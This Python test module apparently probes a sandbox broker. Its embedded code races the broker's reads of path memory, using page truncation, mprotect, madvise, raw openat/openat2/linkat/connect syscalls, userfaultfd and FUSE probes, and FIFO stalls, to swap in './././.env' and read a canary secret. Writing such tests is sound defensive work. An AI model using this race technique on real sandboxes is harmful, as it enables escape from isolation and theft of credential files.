# SPDX-License-Identifier: Apache-2.0
"""Paths and addresses lie in memory that goes, changes and stalls while the broker reads them"""

from box import Box

BREAKS = ("docs/sandbox-broker.md", "the two threads that answer never wait")
ONLY = ["*+S"]

CODE = r"""
import ctypes, mmap, socket, struct, threading, time
libc = ctypes.CDLL(None, use_errno=True)
libc.mmap.restype = ctypes.c_void_p
libc.mmap.argtypes = [ctypes.c_void_p, ctypes.c_size_t, ctypes.c_int, ctypes.c_int, ctypes.c_int, ctypes.c_long]
got, over = set(), threading.Event()
PAGE = 4096
file = os.open('stalls', os.O_RDWR | os.O_CREAT)
os.ftruncate(file, 2 * PAGE)
at = libc.mmap(None, 2 * PAGE, 3, 1, file, 0)
path = at + PAGE - 3                      # over the border of two pages
good, bad = b'./marks.jsonl\0', b'./././.env\0'
def tear():
    while not over.is_set():
        os.ftruncate(file, PAGE); os.ftruncate(file, 2 * PAGE)
        os.pwrite(file, bad, PAGE - 3); os.pwrite(file, good, PAGE - 3)
        libc.madvise(ctypes.c_void_p(at), 2 * PAGE, 4)
def protect():
    while not over.is_set():
        libc.mprotect(ctypes.c_void_p(at + PAGE), PAGE, 0); libc.mprotect(ctypes.c_void_p(at + PAGE), PAGE, 3)
def opens():
    while not over.is_set():
        for how in (0, 2, 0o100 | 1):
            fd = libc.syscall(257, -100, ctypes.c_void_p(path), how, 0o600)
            if fd >= 0:
                if how == 0 and b'CANARY' in os.read(fd, 99): got.add('read .env')
                os.close(fd)
        libc.syscall(437, -100, ctypes.c_void_p(path), ctypes.c_void_p(path), 24)      # openat2
        libc.syscall(265, -100, ctypes.c_void_p(path), -100, ctypes.c_void_p(path), 0)  # linkat
        libc.syscall(42, 0, ctypes.c_void_p(path), 110)                                # connect
handle = libc.syscall(323, 1)
if handle >= 0: got.add('userfaultfd')
if w.tried(lambda: os.open('/dev/fuse', os.O_RDWR)): got.add('FUSE')
if w.tried(lambda: os.open('/dev/userfaultfd', os.O_RDWR)): got.add('the device of userfaultfd')
fifo = 'a-fifo'
w.tried(lambda: os.mkfifo(fifo))
def wait_at_fifo():
    w.tried(lambda: os.open(fifo, os.O_RDONLY))
threads = [threading.Thread(target=t, daemon=True) for t in [tear, protect, opens, opens] + [wait_at_fifo] * 40]
[t.start() for t in threads]
# Where somebody waits for these threads, others wait for ever: nobody opens the other end before they have been answered.
for _ in range(300):
    w.tried(lambda: w.read('marks.jsonl'))
    w.tried(lambda: os.close(os.open('beside', os.O_WRONLY | os.O_CREAT)))
over.set()
w.tried(lambda: os.close(os.open(fifo, os.O_WRONLY | os.O_NONBLOCK)))
print('GOT', sorted(got))
"""


def attack(box: Box) -> str:
    session = box.session()
    told = box.cell(CODE, session)
    box.call("DELETE", f"/v1/sessions/{session}")
    return "" if "GOT []" in told else told
